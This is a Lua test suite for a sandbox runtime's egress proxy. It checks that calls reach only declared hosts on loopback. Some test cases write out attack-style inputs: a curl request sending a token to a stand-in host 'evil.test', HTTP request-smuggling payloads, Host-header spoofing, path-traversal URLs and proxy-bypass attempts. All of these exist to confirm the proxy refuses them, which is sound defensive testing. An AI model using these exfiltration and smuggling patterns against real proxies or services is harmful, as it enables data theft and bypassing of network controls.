-- spec/egress_spec.lua — issue 14 through the runtime: a call reaches
-- exactly the hosts its pack, op and bindings declare, through the proxy
-- the runtime owns inside the call's network namespace, with real clients
-- (curl, git) against loopback servers (spec/egress_fixture.lua). Names
-- reach loopback only through the operator's `resolve` pins; nothing here
-- contacts any address but 127.0.0.1 and ::1. Each case runs under both
-- drivers (bwrap cases pending, with the reason, where bubblewrap cannot
-- run).
local hcp = require("hcp")
local core = require("hcp.core")
local S = require("support")
local F = require("egress_fixture")

local q = S.q
local MISSING = F.missing(S)
local NETNS = (function()
  local p = core.probe().netns
  return p and p.available
end)()

local BWRAP_ERR
do
  local rt, err = hcp.create({ driver = "bwrap" })
  if rt then rt:close() else BWRAP_ERR = tostring(err) end
end

-- A raw client for what curl will not send: the request comes on stdin,
-- goes to the proxy (127.0.0.1:3128) as it is, and the answer is printed.
local RAW_C = [[
#include <arpa/inet.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>
int main(int argc, char **argv) {
  static char req[1 << 16], buf[1 << 16];
  size_t n = 0; ssize_t r;
  while ((r = read(0, req + n, sizeof req - n)) > 0) n += (size_t)r;
  struct sockaddr_in a; memset(&a, 0, sizeof a);
  a.sin_family = AF_INET; a.sin_port = htons(argc > 1 ? atoi(argv[1]) : 3128);
  a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  int s = socket(AF_INET, SOCK_STREAM, 0);
  if (connect(s, (void *)&a, sizeof a) < 0) { perror("connect"); return 1; }
  for (size_t off = 0; off < n; off += (size_t)r) if ((r = write(s, req + off, n - off)) <= 0) return 1;
  struct pollfd p = { s, POLLIN, 0 };
  while (poll(&p, 1, 10000) > 0 && (r = read(s, buf, sizeof buf)) > 0) fwrite(buf, 1, (size_t)r, stdout);
  return 0;
}
]]

local W -- the loopback world
local H4, H6, S4, S6
local RESOLVE = { ["api.test"] = "127.0.0.1", ["api6.test"] = "::1", ["other.test"] = "127.0.0.1",
  ["evil.test"] = "127.0.0.1", ["auth.test"] = "127.0.0.1" }
for i = 1, 8 do RESOLVE["h" .. i .. ".test"] = "127.0.0.1" end

local rts = {}
local function runtime(driver, packs, opts, parent)
  parent = parent or S.tmpdir("epacks-")
  for _, m in ipairs(packs) do
    local root = S.pack(m, parent)
    assert(os.execute(string.format("cp %s %s/cert.pem", q(W.cert), q(root))))
  end
  local o = { pack_dirs = { parent }, driver = driver, resolve = RESOLVE, state_dir = S.tmpdir("estate-") }
  for k, v in pairs(opts or {}) do o[k] = v end
  local rt = assert(hcp.create(o))
  rts[#rts + 1] = rt
  return rt
end

local function curl_pack(name, extra)
  local m = S.manifest(name, "curl", extra)
  m.wrap.timeout_ms = 30000
  return m
end

-- The egress entry for host (and method), or nil.
local function entry(res, host, method)
  for _, e in ipairs(res.egress or {}) do
    if e.host == host and (method == nil or e.method == method) then return e end
  end
  return nil
end

local function seen(pattern)
  return F.requests(S, W):find(pattern) ~= nil
end

local function each_driver(name, fn)
  for _, driver in ipairs({ "local", "bwrap" }) do
    it(name .. " [" .. driver .. "]", function()
      if MISSING then pending(MISSING) return end
      if not NETNS then pending("this host cannot make a network namespace") return end
      if driver == "bwrap" and BWRAP_ERR then pending("bwrap unavailable: " .. BWRAP_ERR) return end
      fn(driver)
    end)
  end
end

describe("egress through the call's proxy", function()
  setup(function()
    if MISSING or not NETNS then return end
    W = F.start(S)
    H4, H6, S4, S6 = table.unpack(W.ports)
  end)
  teardown(function()
    for _, rt in ipairs(rts) do rt:close() end
    if W then W.stop() end
  end)

  each_driver("curl reaches declared hosts over HTTP and HTTPS, on 127.0.0.1 and ::1, by name and by literal", function(driver)
    local rt = runtime(driver, { curl_pack("c", { wrap = { egress = { "api.test:" .. H4, "api.test:" .. S4,
      "api6.test:" .. H6, "api6.test:" .. S6, "127.0.0.1:" .. H4, "[::1]:" .. H6 } } }) })
    local res = rt:call({ pack = "c", args = { "-sS", "--cacert", "cert.pem",
      "http://api.test:" .. H4 .. "/index.html", "https://api.test:" .. S4 .. "/index.html",
      "http://api6.test:" .. H6 .. "/index.html", "https://api6.test:" .. S6 .. "/index.html",
      "http://127.0.0.1:" .. H4 .. "/index.html", "http://[::1]:" .. H6 .. "/index.html" } })
    assert.is_true(res.ok, tostring(res.error) .. "\n" .. res.stderr)
    assert.equal(F.CONTENT:rep(6), res.stdout)
    assert.same({}, (function()
      local bad = {}
      for _, e in ipairs(res.egress) do if not e.allowed or e.error then bad[#bad + 1] = e end end
      return bad
    end)())
    local plain, tls = entry(res, "api.test:" .. H4, "GET"), entry(res, "api.test:" .. S4, "CONNECT")
    assert.equal("/index.html", plain.path)
    assert.is_true(plain.bytes_in > #F.CONTENT and plain.bytes_out > 0)
    assert.is_true(tls.bytes_in > 1000, "a TLS handshake went through") -- certificate and all
    assert.truthy(entry(res, "api6.test:" .. S6, "CONNECT"))
    assert.truthy(entry(res, "[::1]:" .. H6, "GET"))
    local names = {}
    for _, l in ipairs(res.isolation) do names[l] = true end
    assert.is_true(names.egress and names.netns)
  end)

  each_driver("git clones a repository over HTTP and HTTPS through the proxy", function(driver)
    -- the certificate is the pack's own, named by the manifest ($0)
    local parent = S.tmpdir("epacks-")
    local script = 'git -c http.sslCAInfo="$0" clone -q "$1" out && git -C out log --format=%s'
    local rt = runtime(driver, { S.manifest("g", "sh", { wrap = { args = { "-c", script, parent .. "/g/cert.pem" },
      timeout_ms = 60000, workspace = { mode = "ephemeral" }, egress = { "api.test:" .. H4, "api.test:" .. S4 },
      agent_env = { GIT_TERMINAL_PROMPT = "0" } } }) }, nil, parent)
    for _, url in ipairs({ "http://api.test:" .. H4 .. "/repo.git", "https://api.test:" .. S4 .. "/repo.git" }) do
      local res = rt:call({ pack = "g", args = { url } })
      assert.is_true(res.ok, tostring(res.error) .. "\n" .. res.stderr)
      assert.equal("the commit egress_spec clones\n", res.stdout)
      assert.truthy(entry(res, url:match("^%a+://([^/]+)")), url)
      for _, e in ipairs(res.egress) do assert.is_true(e.allowed, e.host .. " " .. tostring(e.reason)) end
    end
    assert.is_true(seen("GET /repo.git/info/refs"))
  end)

  each_driver("an undeclared host is refused with the reason, recorded, and never contacted", function(driver)
    local rt = runtime(driver, { curl_pack("gh", { wrap = { egress = { "api.test:" .. H4 } } }) })
    local res = rt:call({ pack = "gh", args = { "-sS", "http://evil.test:" .. H4 .. "/stolen?token=s3cr3t" } })
    assert.equal('egress: not declared by pack "gh"\n', res.stdout)
    local e = entry(res, "evil.test:" .. H4)
    assert.same({ false, 'not declared by pack "gh"', "GET", "/stolen?..." }, { e.allowed, e.reason, e.method, e.path })
    assert.is_nil(e.bytes_in)
    res = rt:call({ pack = "gh", args = { "-sS", "-k", "https://evil.test:" .. S4 .. "/" } })
    assert.is_false(res.ok)
    assert.matches("CONNECT tunnel failed, response 403", res.stderr)
    e = entry(res, "evil.test:" .. S4, "CONNECT")
    assert.same({ false, 'not declared by pack "gh"' }, { e.allowed, e.reason })
    assert.is_false(seen("evil%.test"))
  end)

  each_driver("a direct connection that bypasses the proxy fails: the namespace has no route", function(driver)
    local rt = runtime(driver, { curl_pack("d", { wrap = { egress = { "api.test:" .. H4 } } }) })
    for _, url in ipairs({ "http://127.0.0.1:" .. H4 .. "/index.html", "http://[::1]:" .. H6 .. "/index.html",
      "http://192.0.2.1:80/" }) do
      local res = rt:call({ pack = "d", args = { "-sS", "--noproxy", "*", "--connect-timeout", "5", url } })
      assert.is_false(res.ok, url)
      assert.matches("Failed to connect to .*Couldn't connect to server", res.stderr)
      assert.same({}, res.egress, url) -- the proxy never heard of it
    end
  end)

  each_driver("an op's egress narrows its pack's; the raw CLI keeps the pack's", function(driver)
    local m = curl_pack("n", { wrap = { egress = { "api.test:" .. H4, "other.test:" .. H4 } },
      ops = { fetch = { args = { "-sS", "{url}" }, params = { url = "string" }, egress = { "api.test:" .. H4 } } } })
    local rt = runtime(driver, { m })
    local ok = rt:call({ pack = "n", op = "fetch", params = { url = "http://api.test:" .. H4 .. "/index.html" } })
    assert.equal(F.CONTENT, ok.stdout)
    local no = rt:call({ pack = "n", op = "fetch", params = { url = "http://other.test:" .. H4 .. "/index.html" } })
    assert.equal('egress: not declared by pack "n"\n', no.stdout)
    assert.is_false(entry(no, "other.test:" .. H4).allowed)
    local raw = rt:call({ pack = "n", args = { "-sS", "http://other.test:" .. H4 .. "/index.html" } })
    assert.equal(F.CONTENT, raw.stdout)
  end)

  each_driver("the operator's deny wins over every declaration; allow narrows every pack", function(driver)
    local m = curl_pack("o", { wrap = { egress = { "api.test:" .. H4, "other.test:" .. H4 } } })
    local rt = runtime(driver, { m }, { egress = { deny = { "api.test:" .. H4 } } })
    local res = rt:call({ pack = "o", args = { "-sS", "http://api.test:" .. H4 .. "/deny-me",
      "http://other.test:" .. H4 .. "/index.html" } })
    assert.equal(string.format('egress: denied by the operator (egress.deny "api.test:%d")\n', H4) .. F.CONTENT,
      res.stdout)
    assert.is_false(entry(res, "api.test:" .. H4).allowed)
    assert.is_false(seen("/deny%-me"))
    rt = runtime(driver, { m }, { egress = { allow = { "other.test:" .. H4 } } })
    res = rt:call({ pack = "o", args = { "-sS", "http://api.test:" .. H4 .. "/not-allowed" } })
    assert.equal("egress: not in the operator's egress.allow\n", res.stdout)
    assert.is_false(seen("/not%-allowed"))
  end)

  each_driver("a binding's hosts are reachable only by the ops that use the binding", function(driver)
    local m = curl_pack("b", { bindings = { tok = { family = "http", env = "TOK", hosts = { "auth.test:" .. H4 } } },
      ops = { with = { args = { "-sS", "{url}" }, params = { url = "string" }, bindings = { "tok" } },
        without = { args = { "-sS", "{url}" }, params = { url = "string" } } } })
    local rt = runtime(driver, { m }, { bindings = { tok = function() return "t0ken" end } })
    local url = "http://auth.test:" .. H4 .. "/index.html"
    assert.equal(F.CONTENT, rt:call({ pack = "b", op = "with", params = { url = url } }).stdout)
    local res = rt:call({ pack = "b", op = "without", params = { url = url } })
    assert.equal('egress: not declared by pack "b"\n', res.stdout)
    -- rt:exec mints no binding, so it gets none of their hosts
    res = rt:exec({ bin = "curl", pack = "b", args = { "-sS", url } })
    assert.equal('egress: not declared by pack "b"\n', res.stdout, res.error)
  end)

  each_driver("a name that resolves to loopback is refused unless the address is declared literally", function(driver)
    local rt = runtime(driver, { curl_pack("l", { wrap = { egress = { "localhost:" .. H4, "127.0.0.1:" .. H4 } } }) },
      { resolve = {} })
    local res = rt:call({ pack = "l", args = { "-sS", "http://localhost:" .. H4 .. "/via-dns",
      "http://127.0.0.1:" .. H4 .. "/index.html" } })
    assert.matches('^egress: "localhost" resolves to [%x:.]+, a private or loopback address, which only a literal '
      .. "entry may reach\n", res.stdout)
    assert.matches(F.CONTENT .. "$", res.stdout)
    local e = entry(res, "localhost:" .. H4)
    assert.is_false(e.allowed)
    assert.is_false(seen("/via%-dns"))
    assert.is_true(entry(res, "127.0.0.1:" .. H4).allowed)
  end)

  each_driver("8 concurrent calls with different allow-lists never see each other's hosts", function(driver)
    local packs, script = {}, "for i in 1 2 3 4 5 6 7 8; do curl -s -o /dev/null -w \"%{http_code} \" "
      .. "http://h$i.test:" .. H4 .. "/index.html; done"
    for i = 1, 8 do
      packs[i] = S.manifest("p" .. i, "sh", { wrap = { args = { "-c", script }, timeout_ms = 60000,
        egress = { "h" .. i .. ".test:" .. H4 } } })
    end
    local rt = runtime(driver, packs)
    local list = {}
    for i = 1, 8 do list[i] = { pack = "p" .. i } end
    local results = rt:call_all(list)
    for i, res in ipairs(results) do
      local want = {}
      for k = 1, 8 do want[k] = k == i and "200" or "403" end
      assert.equal(table.concat(want, " ") .. " ", res.stdout, "p" .. i)
      for k = 1, 8 do
        assert.equal(k == i, entry(res, "h" .. k .. ".test:" .. H4).allowed, "p" .. i .. " h" .. k)
      end
    end
  end)

  each_driver("method and path rules hold for plain HTTP, and refuse what a glob cannot judge", function(driver)
    local m = curl_pack("r", { wrap = { egress = { "GET api.test:" .. H4 .. "/index*", "GET api.test:" .. S4 .. "/x" } } })
    local rt = runtime(driver, { m })
    local base = "http://api.test:" .. H4
    assert.equal(F.CONTENT, rt:call({ pack = "r", args = { "-sS", base .. "/index.html" } }).stdout)
    for _, args in ipairs({ { base .. "/echo" }, { "-X", "POST", base .. "/index.html" },
      { "--path-as-is", base .. "/index.html/../echo" }, { base .. "/index.html/%2e%2e/echo" } }) do
      local a = { "-sS" }
      table.move(args, 1, #args, 2, a)
      local res = rt:call({ pack = "r", args = a })
      assert.matches("^egress: ", res.stdout, 1)
      assert.is_false(res.egress[1].allowed)
    end
    assert.is_false(seen("echo"))
    local res = rt:call({ pack = "r", args = { "-sS", "-k", "https://api.test:" .. S4 .. "/x" } })
    assert.matches('declared by wrap.egress for plain HTTP only', res.egress[1].reason, 1, true)
  end)

  each_driver("a forwarded request goes upstream in origin form, without Proxy-* headers, one per connection", function(driver)
    local raw = assert(S.cc("egress_raw", RAW_C))
    local rt = runtime(driver, { curl_pack("f", { wrap = { egress = { "api.test:" .. H4 } } }),
      S.manifest("raw", raw, { wrap = { egress = { "api.test:" .. H4 }, timeout_ms = 30000 } }) })
    local res = rt:call({ pack = "f", args = { "-sS", "-H", "Proxy-Authorization: Basic c2VjcmV0",
      "-H", "Host: evil.test", "--data-binary", "hello", "http://api.test:" .. H4 .. "/echo" } })
    assert.matches("^POST /echo HTTP/1.1\n", res.stdout)
    assert.matches("\nHost: api.test:" .. H4 .. "\n", res.stdout, 1, true)
    assert.matches("\nConnection: close\n", res.stdout, 1, true)
    assert.matches("\nbody%-bytes: 5\n", res.stdout)
    assert.is_nil(res.stdout:lower():find("proxy-", 1, true))
    -- a chunked body is framed, not cut
    res = rt:call({ pack = "f", args = { "-sS", "-H", "Transfer-Encoding: chunked", "--data-binary", "@-",
      "http://api.test:" .. H4 .. "/echo" }, stdin = ("x"):rep(100000) })
    assert.matches("\nbody%-bytes: 100000\n", res.stdout)
    -- a second request on the same connection never goes upstream (it would
    -- bypass the decision); neither does a body past its length
    res = rt:call({ pack = "raw", stdin = "GET http://api.test:" .. H4 .. "/echo?first HTTP/1.1\r\nHost: api.test\r\n\r\n"
      .. "GET /echo?smuggled HTTP/1.1\r\nHost: evil.test\r\n\r\n" })
    assert.matches("^HTTP/1.0 200", res.stdout)
    res = rt:call({ pack = "raw", stdin = "POST http://api.test:" .. H4 .. "/echo?cl HTTP/1.1\r\nContent-Length: 3\r\n\r\n"
      .. "abcGET /echo?smuggled2 HTTP/1.1\r\n\r\n" })
    assert.matches("body%-bytes: 3\n", res.stdout)
    assert.is_true(seen("/echo%?first"))
    assert.is_false(seen("smuggled"))
  end)

  each_driver("what the proxy cannot read is refused with a 400 and recorded", function(driver)
    local raw = assert(S.cc("egress_raw", RAW_C))
    local rt = runtime(driver, { S.manifest("raw", raw, { wrap = { egress = { "api.test:" .. H4 }, timeout_ms = 30000 } }) })
    for req, why in pairs({
      ["GET /index.html HTTP/1.1\r\nHost: api.test\r\n\r\n"] = "not a proxy request",
      ["GET https://api.test:" .. S4 .. "/ HTTP/1.1\r\n\r\n"] = "https:// URL goes through CONNECT",
      ["GET http://api.test:" .. H4 .. "/ HTTP/1.1\nHost: x\n\n"] = "bare LF",
      ["POST http://api.test:" .. H4 .. "/ HTTP/1.1\r\nContent-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n"] =
        "both Content-Length and Transfer-Encoding",
      ["GET http://user:pw@api.test:" .. H4 .. "/ HTTP/1.1\r\n\r\n"] = "user info",
      ["GET http://api.test:" .. H4 .. "/ HTTP/1.1\r\nX-A : b\r\n\r\n"] = "header name",
      ["GET http://api.test:" .. H4 .. "/ HTTP/1.1\r\nX: " .. ("a"):rep(20000) .. "\r\n\r\n"] = "larger than 16 KiB",
    }) do
      local res = rt:call({ pack = "raw", stdin = req })
      assert.matches("^HTTP/1.1 [45]0%d ", res.stdout, 1)
      assert.matches(why, res.stdout, 1, true)
      assert.equal("(unreadable request)", res.egress[1].host)
      assert.matches(why, res.egress[1].reason, 1, true)
    end
    assert.is_false(seen("user:pw"))
  end)

  each_driver("the child is pointed at its proxy; a call without hosts has none and no egress field", function(driver)
    local env = "echo ${HTTP_PROXY-unset} ${https_proxy-unset} ${ALL_PROXY-unset} [${NO_PROXY-unset}]"
    local rt = runtime(driver, {
      S.manifest("e", "sh", { wrap = { args = { "-c", env }, egress = { "api.test:" .. H4 },
        agent_env = { HTTP_PROXY = "http://evil.test:1", NO_PROXY = "*" } } }),
      S.manifest("none", "sh", { wrap = { args = { "-c", env .. "; curl -sS --connect-timeout 5 "
        .. "http://127.0.0.1:" .. core.EGRESS_PORT .. "/" } } }) })
    local url = "http://127.0.0.1:" .. core.EGRESS_PORT
    local res = rt:call({ pack = "e" })
    assert.equal(string.format("%s %s %s []\n", url, url, url), res.stdout)
    res = rt:call({ pack = "none" })
    assert.matches("^unset unset unset %[unset%]\n", res.stdout)
    assert.matches("Failed to connect", res.stderr, 1, true)
    assert.is_nil(res.egress)
  end)

  each_driver("wrap.network: true needs the operator's word, and then has the host's network and no proxy", function(driver)
    local m = curl_pack("wide", { wrap = { network = true } })
    local res = runtime(driver, { m }):call({ pack = "wide", args = { "-sS", "http://127.0.0.1:" .. H4 .. "/index.html" } })
    assert.equal(126, res.exit)
    assert.matches('hcp.create{ network = "unrestricted" }', res.error, 1, true)
    local rt = runtime(driver, { m }, { network = "unrestricted" })
    res = rt:call({ pack = "wide", args = { "-sS", "--noproxy", "*", "http://127.0.0.1:" .. H4 .. "/unrestricted-ok" } })
    assert.is_true(res.ok, res.stderr)
    assert.is_nil(res.egress)
    assert.is_true(seen("/unrestricted%-ok"))
    for _, l in ipairs(res.isolation) do assert.not_equal("egress", l) end
  end)

  each_driver("the audit log holds each attempt, without the query that may carry a secret", function(driver)
    local log = S.tmpdir("eaudit-") .. "/audit.jsonl"
    local rt = runtime(driver, { curl_pack("au", { wrap = { egress = { "api.test:" .. H4 } } }) }, { audit = log })
    rt:call({ pack = "au", args = { "-sS", "http://api.test:" .. H4 .. "/index.html?key=s3cr3t",
      "http://evil.test:" .. H4 .. "/?key=s3cr3t" } })
    rt:close()
    local text = assert(S.read(log))
    assert.is_nil(text:find("s3cr3t", 1, true))
    local line = require("hcp.json").decode(text:match("[^\n]+"))
    assert.equal(2, #line.egress)
    assert.same({ true, "/index.html?..." }, { line.egress[1].allowed, line.egress[1].path })
    assert.same({ false, 'not declared by pack "au"' }, { line.egress[2].allowed, line.egress[2].reason })
  end)
end)
